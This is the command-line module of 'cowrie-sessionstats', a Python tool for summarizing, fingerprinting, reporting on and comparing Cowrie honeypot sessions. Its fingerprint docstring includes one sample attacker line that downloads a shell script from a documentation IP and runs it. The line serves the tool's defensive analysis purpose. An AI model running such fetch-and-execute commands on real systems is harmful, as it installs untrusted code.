"""The command line."""

from __future__ import annotations

import json
import os
import shutil
import sys
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any, Final, Literal, TextIO, TypeVar

import click

from cowrie_sessionstats import __version__
from cowrie_sessionstats.commands.explanations import Explained
from cowrie_sessionstats.summary import printable

if TYPE_CHECKING:
    from types import ModuleType

    from cowrie_sessionstats.replay.counting import Settings
    from cowrie_sessionstats.report.command import Source

_PORT: Final = click.IntRange(1, 65_535)


@click.group(context_settings={"help_option_names": ["-h", "--help"]})
@click.version_option(__version__, prog_name="cowrie-sessionstats")
def main() -> None:
    """One enriched summary of every Cowrie honeypot session."""


@main.command()
@click.argument("folder", required=False, type=click.Path(path_type=Path, file_okay=False))
@click.option("--ssh-port", type=_PORT, default=2222, show_default=True)
@click.option("--telnet-port", type=_PORT, default=2223, show_default=True)
def demo(folder: Path | None, ssh_port: int, telnet_port: int) -> None:
    """Run a Cowrie on loopback and show each summary as it is written.

    FOLDER becomes the demo's state folder: a new or empty one, or that of an earlier demo; without
    one, a temporary folder is made, and deleted at the end. Ctrl-C stops both.
    """
    from cowrie_sessionstats.demo import run  # noqa: PLC0415 - only this command needs it
    from cowrie_sessionstats.launch import LaunchError  # noqa: PLC0415

    temporary = folder is None
    where = Path(tempfile.mkdtemp(prefix="cowrie-demo-")) if folder is None else folder.absolute()
    click.echo(f"State folder: {where}" + (" (deleted at the end)" if temporary else ""))
    try:
        run(where, ssh_port, telnet_port, click.echo)
    except LaunchError as error:
        raise click.ClickException(str(error)) from None
    except OSError as error:
        raise click.ClickException(f"cannot use {where}: {error}. Name another folder") from None
    finally:
        if temporary:
            shutil.rmtree(where, ignore_errors=True)


@main.command()
@click.argument(
    "checkout",
    default=".",
    type=click.Path(path_type=Path, exists=True, file_okay=False),
)
def install(checkout: Path) -> None:
    """Put the plugin's file into a Cowrie that runs from CHECKOUT (default: this folder).

    A Cowrie installed by pip has it already when cowrie-sessionstats is in the same environment.
    """
    from cowrie_sessionstats.install import InstallError  # noqa: PLC0415 - only this needs it
    from cowrie_sessionstats.install import install as put  # noqa: PLC0415

    try:
        click.echo(put(checkout))
    except InstallError as error:
        raise click.ClickException(str(error)) from None


@main.command()
@click.argument("file", type=click.File("r", "utf-8", errors="surrogateescape"), default="-")
@click.option("--explain", is_flag=True, help="Show what was replaced, and by which rule.")
@click.option("--json", "as_json", is_flag=True, help="Print one JSON object.")
@click.option(
    "--sessions",
    is_flag=True,
    help="Read many sessions, each a JSON list of command lines on a line; print an object each.",
)
@click.option(
    "--vocabulary",
    type=click.Path(path_type=Path, exists=True, dir_okay=False),
    help="Add a vocabulary of your own, as the option of that name in cowrie.cfg does.",
)
def fingerprint(
    file: TextIO, *, explain: bool, as_json: bool, sessions: bool, vocabulary: Path | None
) -> None:
    """Print the template of each command line in FILE, and the session's fingerprint.

    FILE holds the command lines of one session, one on a line; without it they are read from the
    standard input: echo 'wget http://203.0.113.9/x.sh; sh x.sh' | cowrie-sessionstats fingerprint
    """
    from cowrie_sessionstats.commands import (  # noqa: PLC0415 - only this needs it
        Templates,
        VocabularyError,
        default_vocabulary,
        explanations,
        read_vocabulary,
    )

    try:
        known = default_vocabulary() if vocabulary is None else read_vocabulary(vocabulary)
    except VocabularyError as error:
        raise click.ClickException(str(error)) from None
    if not sessions and not as_json:
        if file.isatty():
            click.echo("Command lines, one on a line; Ctrl-D ends them.", err=True)
        _show(*explanations.explain(_lines(file), known), explain=explain)
        return
    templates = Templates(known)  # one for all: command lines recur from session to session
    for session in _sessions(file) if sessions else [list(_lines(file))]:
        if explain:
            lines, found = explanations.explain(session, known)
        else:
            lines, found = explanations.templated(session, templates)
        result: dict[str, Any] = {
            "fingerprint": found,
            "commands": [line.as_json(explain=explain) for line in lines],
        }
        if known.extension is not None:
            result["vocabulary"] = known.extension
        click.echo(json.dumps(result))


_TEMPLATE: Final = 4096
_ORIGINAL: Final = 60  # characters of a template and of what was replaced, on a terminal


def _show(lines: list[Explained], found: str, *, explain: bool) -> None:
    for line in lines:
        click.echo(printable(line.template, _TEMPLATE))
        for each in line.replaced if explain else ():
            original = printable(each.original, _ORIGINAL)
            click.echo(f"    {each.placeholder:10} {original}  ({each.rule})")
    click.echo(found)


def _lines(file: TextIO) -> Iterator[str]:
    return (line.removesuffix("\n") for line in file)


def _sessions(file: TextIO) -> Iterator[list[str]]:
    """Yield the sessions in a file of JSON lists, with a bar if only people see the errors."""
    name = getattr(file, "name", "<stdin>")
    path = Path(name)
    if path.is_file() and sys.stderr.isatty() and not sys.stdout.isatty():
        with click.progressbar(length=path.stat().st_size, file=sys.stderr) as bar:
            for number, line in enumerate(file, 1):
                bar.update(len(line.encode("utf-8", "surrogateescape")))
                yield from _session(line, f"{name}, line {number}")
    else:
        for number, line in enumerate(file, 1):
            yield from _session(line, f"{name}, line {number}")


def _session(line: str, where: str) -> list[list[str]]:
    if not line.strip():
        return []
    try:
        session = json.loads(line)
    except (ValueError, RecursionError):
        session = None
    if not isinstance(session, list) or not all(isinstance(text, str) for text in session):
        raise click.ClickException(
            f'{where}: this is no JSON list of command lines, such as ["uname -a", "exit"]'
        )
    return [session]


_JOBS: Final = click.IntRange(1, 256)
_Command = TypeVar("_Command", bound=Callable[..., Any])


def _options(*options: Callable[[_Command], _Command]) -> Callable[[_Command], _Command]:
    """Return what adds several options to a command."""

    def add(command: _Command) -> _Command:
        for option in reversed(options):
            command = option(command)
        return command

    return add


_IN_COWRIE: Final = click.option(
    "--cowrie",
    type=click.Path(path_type=Path, exists=True, file_okay=False),
    default=".",
    help="The folder in which Cowrie runs, with its cowrie.cfg. [default: this one]",
)


def _timeout(
    name: Literal["idle", "authentication", "interactive"], what: str
) -> Callable[[_Command], _Command]:
    """Return the option for one of Cowrie's timeouts."""
    from cowrie_sessionstats.findings.ending import Timeouts  # noqa: PLC0415 - slow to load

    return click.option(
        f"--{name}-timeout",
        type=click.FloatRange(min=0),
        default=getattr(Timeouts(), name),
        show_default=True,
        metavar="SECONDS",
        help=f"Cowrie's {name}_timeout when the logs were written: {what}.",
    )


_RULES: Final = click.option(
    "--rules",
    type=click.Path(path_type=Path, exists=True, dir_okay=False),
    help="Add rules of your own for checks and labels, as the option of that name in cowrie.cfg.",
)


@main.command()
@click.argument("paths", nargs=-1, required=True, metavar="PATH...")
@click.option(
    "-o",
    "--output",
    type=click.Path(path_type=Path, dir_okay=False),
    help="Write to this file, whole or not at all. Its ending says what: .jsonl, .jsonl.gz, "
    ".msgpack, .csv, .parquet.",
)
@click.option("--open", "open_sessions", is_flag=True, help="Write sessions without an end, too.")
@click.option(
    "--follow",
    is_flag=True,
    help="Go on reading as the logs grow, through their rotation, and write each record at its "
    "session's close. PATH is then the log that Cowrie writes, or its folder.",
)
@click.option(
    "--state",
    type=click.Path(path_type=Path, dir_okay=False),
    help="With --follow: remember in this file what was read, so that a restart loses no record "
    "and repeats none.",
)
@click.option("--strict", is_flag=True, help="Stop at the first line or file that cannot be read.")
@click.option(
    "--jobs",
    type=_JOBS,
    help="Processes that share the work; the records are the same with any number. "
    "[default: one for each processor]",
)
@click.option(
    "--passwords",
    type=click.Choice(["keep", "drop"]),
    default="keep",
    show_default=True,
    help="Whether the record holds the password of the login.",
)
@click.option(
    "--vocabulary",
    type=click.Path(path_type=Path, exists=True, dir_okay=False),
    help="Add a vocabulary of your own, as the option of that name in cowrie.cfg does.",
)
@_RULES
@click.option(
    "--ttylogs",
    type=click.Path(path_type=Path, exists=True, file_okay=False),
    help="The folder with Cowrie's recordings of terminals (its ttylog_path), to see who typed.",
)
@click.option(
    "--history",
    type=click.Path(path_type=Path, dir_okay=False),
    help="Keep in this file what scripts came before, and say of each session what it knows: "
    "seen_before, first_seen, stopped_early, usual_next.",
)
@_timeout("idle", "without a key, and on Telnet since the login")
@_timeout("authentication", "until the login")
@_timeout("interactive", "on SSH since the login")
def summarize(  # noqa: PLR0913 - one for each option
    paths: tuple[str, ...],
    *,
    output: Path | None,
    open_sessions: bool,
    follow: bool,
    state: Path | None,
    strict: bool,
    jobs: int | None,
    passwords: str,
    vocabulary: Path | None,
    rules: Path | None,
    ttylogs: Path | None,
    history: Path | None,
    idle_timeout: float,
    authentication_timeout: float,
    interactive_timeout: float,
) -> None:
    """Write the record of every session in Cowrie's JSON logs, in the order of their close.

    Each PATH is a file, a folder, a glob or - for the standard input: logs of any year and any
    number of sensors, plain or compressed (gzip, bzip2, xz, zstd), rotated and copied as they may
    be. They are read in the order of time, and what several of them hold counts once.

    The exit status is 0 if any session was summarized, 1 if none was, 2 for wrong usage.
    """
    try:
        from cowrie_sessionstats.replay import command, formats  # noqa: PLC0415
        from cowrie_sessionstats.replay.counting import Settings  # noqa: PLC0415
    except ImportError as error:
        raise click.ClickException(str(error)) from None
    from cowrie_sessionstats.commands import VocabularyError  # noqa: PLC0415
    from cowrie_sessionstats.findings.ending import Timeouts  # noqa: PLC0415
    from cowrie_sessionstats.findings.rules import RuleError  # noqa: PLC0415

    if follow:
        _check_follow(paths, output, open_sessions=open_sessions)
    elif state is not None:
        raise click.UsageError("--state belongs to --follow: a log that is read once has none")
    timeouts = Timeouts(idle_timeout, authentication_timeout, interactive_timeout)
    try:
        settings = Settings.of(vocabulary, passwords == "keep", rules, timeouts, ttylogs, history)
        if output is not None:
            formats.check(output)
    except VocabularyError as error:
        raise click.ClickException(str(error)) from None
    except RuleError as error:
        raise click.BadParameter(str(error), param_hint="--rules") from None
    except formats.FormatError as error:
        raise click.BadParameter(str(error), param_hint="--output") from None
    request = command.Request(
        paths,
        settings,
        jobs or processors(),
        output=output,
        open_sessions=open_sessions,
        strict=strict,
    )
    if follow:
        from cowrie_sessionstats.replay import follow_command  # noqa: PLC0415 - only this needs it

        sys.exit(follow_command.follow(request, state))
    sys.exit(command.summarize(request))


@main.command()
@click.argument("paths", nargs=-1, required=True, metavar="PATH...")
@click.option(
    "--history",
    type=click.Path(path_type=Path, dir_okay=False),
    help="The file of `summarize --history`. [default: the store of the Cowrie in --cowrie]",
)
@click.option("--jobs", type=_JOBS, help="Processes. [default: one for each processor]")
@_IN_COWRIE
def learn(paths: tuple[str, ...], *, history: Path | None, jobs: int | None, cowrie: Path) -> None:
    """Teach a sensor from Cowrie's old logs which scripts are known and how they usually go on.

    Each PATH is as for `summarize`. Cowrie has to be stopped while its store learns. A session
    counts once: what ended before the last one that is known of its sensor is known already.

    The exit status is 0 if there were sessions to learn from, 1 if not, 2 for wrong usage.
    """
    try:
        from cowrie_sessionstats.replay import learn_command  # noqa: PLC0415 - only this needs it
    except ImportError as error:
        raise click.ClickException(str(error)) from None
    sys.exit(learn_command.learn(paths, history, cowrie, jobs or processors()))


def _check_follow(paths: tuple[str, ...], output: Path | None, *, open_sessions: bool) -> None:
    """Refuse what cannot be followed."""
    if "-" in paths:
        raise click.UsageError("--follow reads files: name the log that Cowrie writes")
    if open_sessions:
        raise click.UsageError("--open and --follow exclude each other: an open session goes on")
    if output is not None and not output.name.endswith(".jsonl"):
        raise click.UsageError("--follow appends lines: the name of --output has to end in .jsonl")


def processors() -> int:
    """Return how many processors this process may use."""
    if hasattr(os, "sched_getaffinity"):
        return len(os.sched_getaffinity(0))
    return os.cpu_count() or 1


@main.command()
@click.argument("paths", nargs=-1, required=True, metavar="PATH...")
@click.option(
    "--count",
    type=click.Choice(["events", "inputs"]),
    default="events",
    show_default=True,
    help="What counts as a command: every cowrie.command.* event, as in the study, or every "
    "command line.",
)
@click.option("--all-sessions", is_flag=True, help="Also sessions that never logged in.")
@click.option(
    "--top",
    type=click.IntRange(1, 1000),
    help="Rows of a table. [default: 10; in files and JSON 100, but for figure 4]",
)
@click.option(
    "--new-days",
    type=click.IntRange(1, 36_500),
    default=7,
    show_default=True,
    help="A script is new if it was first seen within so many days before the last session.",
)
@click.option("--json", "as_json", is_flag=True, help="Print one JSON object with all figures.")
@click.option(
    "--csv",
    "csv_folder",
    type=click.Path(path_type=Path, file_okay=False),
    help="Write a CSV file for each table into this folder.",
)
@click.option(
    "--html",
    type=click.Path(path_type=Path, dir_okay=False),
    help="Write one page with plots, tables and records: it opens from the disk, without network.",
)
@click.option(
    "--plots",
    type=click.Path(path_type=Path, file_okay=False),
    help="Write each plot as PNG and SVG into this folder.",
)
@click.option("--strict", is_flag=True, help="Stop at the first line or file that cannot be read.")
@click.option(
    "--jobs",
    type=_JOBS,
    help="Processes or threads that share the work. [default: one for each processor]",
)
@click.option(
    "--vocabulary",
    type=click.Path(path_type=Path, exists=True, dir_okay=False),
    help="For raw logs: a vocabulary of your own, as the option of that name in cowrie.cfg.",
)
def report(  # noqa: PLR0913 - one for each option
    paths: tuple[str, ...],
    *,
    count: Literal["events", "inputs"],
    all_sessions: bool,
    top: int | None,
    new_days: int,
    as_json: bool,
    csv_folder: Path | None,
    html: Path | None,
    plots: Path | None,
    strict: bool,
    jobs: int | None,
    vocabulary: Path | None,
) -> None:
    """Report on many sessions: the tables and pictures of the SANS ISC study, and more.

    Each PATH is a file, a folder or a glob: summaries (JSON lines, Parquet, msgpack) or raw logs
    of Cowrie, which are summarized first, or both. A session counts once however often it is there.

    The exit status is 0 if there was something to report on, 1 if not, 2 for wrong usage.
    """
    command = _reports()
    if html is not None and not html.resolve().parent.is_dir():
        raise click.BadParameter(
            f"there is no folder {html.parent}. Make it, or name another", param_hint="--html"
        )
    to_files = as_json or csv_folder is not None or html is not None
    choice = command.choice(count, top, new_days, all_sessions=all_sessions, to_files=to_files)
    sys.exit(
        command.run(
            command.Request(
                _source(paths, jobs, vocabulary, strict=strict),
                choice,
                json=as_json,
                csv=csv_folder,
                html=html,
                plots=plots,
            )
        )
    )


_FORMS: Final = (
    click.option("--json", "form", flag_value="json", help="Print a JSON object a row."),
    click.option("--table", "form", flag_value="table", default="table", hidden=True),
    click.option("--jobs", type=_JOBS, help="Threads and processes. [default: the processors]"),
)


class _Text(click.ParamType):  # type: ignore[type-arg,unused-ignore]  # generic since 8.2
    """A text that is one: bytes of another encoding are in no record."""

    name = "text"

    def convert(self, value: str, param: click.Parameter | None, ctx: click.Context | None) -> str:
        """Return the text as it is."""
        try:
            value.encode()
        except UnicodeEncodeError:
            self.fail("is not in UTF-8", param, ctx)
        return value


@main.command()
@click.argument("query", type=_Text())
@click.argument("paths", nargs=-1, required=True, metavar="PATH...")
@click.option("--csv", "form", flag_value="csv", help="Print CSV.")
@_options(*_FORMS)
def sql(
    query: str, paths: tuple[str, ...], form: Literal["table", "json", "csv"], jobs: int | None
) -> None:
    """Put a question in SQL to the table ``sessions``: a row a session, a column a key.

    QUERY is DuckDB's SQL; PATHs are as for `report`. For example the study's last commands:

    cowrie-sessionstats sql "SELECT last_command, count(*) AS sessions FROM sessions
    WHERE logged_in GROUP BY ALL ORDER BY sessions DESC LIMIT 10" sessions.parquet
    """
    sys.exit(_reports().sql(_source(paths, jobs), query, form))


@main.command()
@click.argument("session", type=_Text())
@click.argument("paths", nargs=-1, required=True, metavar="PATH...")
@_options(*_FORMS)
def show(
    session: str, paths: tuple[str, ...], form: Literal["table", "json"], jobs: int | None
) -> None:
    """Show the record of SESSION, an id of Cowrie's, out of the summaries or logs in PATHs."""
    sys.exit(_reports().show(_source(paths, jobs), session, form))


@main.command()
@click.argument("session", type=_Text())
@click.argument("paths", nargs=-1, required=True, metavar="PATH...")
@click.option("--top", type=click.IntRange(1, 1000), default=20, show_default=True, help="Rows.")
@_options(*_FORMS)
def similar(
    session: str, paths: tuple[str, ...], top: int, form: Literal["table", "json"], jobs: int | None
) -> None:
    """Show which scripts are like that of SESSION: the same, kin, or with the same beginning."""
    sys.exit(_reports().similar(_source(paths, jobs), session, form, top))


def _reports() -> ModuleType:
    """Return what carries out these commands; says what to install where packages are missing."""
    try:
        from cowrie_sessionstats.report import command  # noqa: PLC0415 - slow to load
    except ImportError as error:
        raise click.ClickException(
            f"{error.msg}. This command needs more packages. "
            "Install them with: pip install 'cowrie-sessionstats[report]'"
        ) from None
    return command


def _source(
    paths: tuple[str, ...],
    jobs: int | None,
    vocabulary: Path | None = None,
    *,
    strict: bool = False,
) -> Source:
    command = _reports()
    made: Source = command.Source(paths, _settings(vocabulary), jobs or processors(), strict)
    return made


def _settings(vocabulary: Path | None) -> Settings:
    """Return how raw logs are summarized."""
    from cowrie_sessionstats.commands import VocabularyError  # noqa: PLC0415 - only with logs
    from cowrie_sessionstats.replay.counting import Settings  # noqa: PLC0415

    try:
        return Settings.of(vocabulary, keep_passwords=True)
    except VocabularyError as error:
        raise click.ClickException(str(error)) from None


@main.command()
@click.option("--to", "names", multiple=True, metavar="NAME", help="Only this destination.")
@click.option("--retry", is_flag=True, help="Have records that were refused sent once more.")
@click.option(
    "--export",
    type=click.Path(path_type=Path, dir_okay=False),
    help="Write the records that were refused to this file, as lines of JSON, with the reason.",
)
@click.option("--drop", is_flag=True, help="Delete the records that were refused.")
@_IN_COWRIE
def outbox(
    names: tuple[str, ...], *, retry: bool, export: Path | None, drop: bool, cowrie: Path
) -> None:
    """Show what waits for each destination, since when, at which rate it goes and what is wrong.

    The options act on records that a destination refused and that were set aside; --export and
    --drop together write and then delete them.
    """
    from cowrie_sessionstats.forwarding import outbox_command  # noqa: PLC0415 - only this needs it

    if retry and drop:
        raise click.UsageError("--retry and --drop exclude each other")
    outbox_command.run(outbox_command.Request(cowrie, names, retry, export, drop))


@main.command()
@click.argument("paths", nargs=-1, required=True, metavar="PATH...")
@click.option("--to", "name", required=True, metavar="NAME", help="The destination.")
@_IN_COWRIE
def forward(paths: tuple[str, ...], *, name: str, cowrie: Path) -> None:
    """Send old summaries to the destination NAME, which has a section [sessionstats_NAME].

    Each PATH is a file, a folder or a glob of summaries as lines of JSON, plain or compressed: the
    plugin's own log, or what `summarize -o x.jsonl` writes. All of them are sent, also those that
    the destination has already. A receiver that is away is waited for; Ctrl-C ends it.

    The exit status is 0 if every record was delivered, 1 if not.
    """
    try:
        from cowrie_sessionstats.forwarding import forward_command  # noqa: PLC0415 - only this
    except ImportError as error:
        raise click.ClickException(
            f"{error}. Install it with: pip install 'cowrie-sessionstats[forward]'"
        ) from None
    sys.exit(forward_command.run(forward_command.Request(paths, name, cowrie)))


@main.command()
@click.argument("sessions", nargs=-1, metavar="[PATH]...")
@click.option("--honeypot", required=True, metavar="HOST:PORT", help="Your own Cowrie's SSH.")
@click.option(
    "--reference",
    default="debian12",
    show_default=True,
    metavar="REFERENCE",
    help="debian12, debian13 or busybox (recorded), local (this machine), "
    "ssh://[USER@]HOST[:PORT], or a recording.",
)
@click.option(
    "--user",
    default="root",
    show_default=True,
    envvar="HONEYPOT_USER",
    show_envvar=True,
    help="Whom the honeypot lets in.",
)
@click.option(
    "--password-file",
    type=click.File("r", "utf-8"),
    envvar="HONEYPOT_PASSWORD_FILE",
    show_envvar=True,
    help="With which password, on its first line. [default: one that Cowrie takes from root]",
)
@click.option(
    "--top", type=click.IntRange(0, 1000), default=30, show_default=True, help="Last commands."
)
@_RULES
@click.option("--json", "as_json", is_flag=True, help="Print one JSON object.")
@click.option(
    "--html",
    type=click.Path(path_type=Path, dir_okay=False),
    help="Write a page that opens from the disk, without network.",
)
def compare(  # noqa: PLR0913 - one for each option
    sessions: tuple[str, ...],
    *,
    honeypot: str,
    reference: str,
    user: str,
    password_file: TextIO | None,
    top: int,
    rules: Path | None,
    as_json: bool,
    html: Path | None,
) -> None:
    """Show where your honeypot answers other than a real machine.

    Runs the honeypot checks that only read, and your sensor's commonest last commands that do (out
    of the summaries or logs in PATHs), on your Cowrie and on a reference, and shows both answers,
    those first on which most sessions ended. On a reference only what is known to be harmless is
    ever run. The honeypot's own log will have these sessions; the client calls itself
    cowrie-sessionstats-compare.
    """
    try:
        from cowrie_sessionstats.compare import command  # noqa: PLC0415 - slow to load
    except ImportError as error:
        raise click.ClickException(
            f"{error}. This command needs more packages. "
            "Install them with: pip install 'cowrie-sessionstats[compare]'"
        ) from None
    from cowrie_sessionstats.findings.rules import (  # noqa: PLC0415
        RuleError,
        default_rules,
        read_rules,
    )

    if html is not None and not html.resolve().parent.is_dir():
        raise click.BadParameter(
            f"there is no folder {html.parent}. Make it, or name another", param_hint="--html"
        )
    try:
        known = default_rules() if rules is None else read_rules(rules)
    except RuleError as error:
        raise click.BadParameter(str(error), param_hint="--rules") from None
    password = "admin" if password_file is None else password_file.readline().rstrip("\r\n")
    request = command.Request(
        honeypot, reference, user, password, sessions, known, processors(), as_json, html, top
    )
    sys.exit(command.compare(request))


@main.command()
def schema() -> None:
    """Print the JSON Schema of the record."""
    from cowrie_sessionstats.summary import json_schema  # noqa: PLC0415 - only this needs it

    click.echo(json.dumps(json_schema(), indent=2))
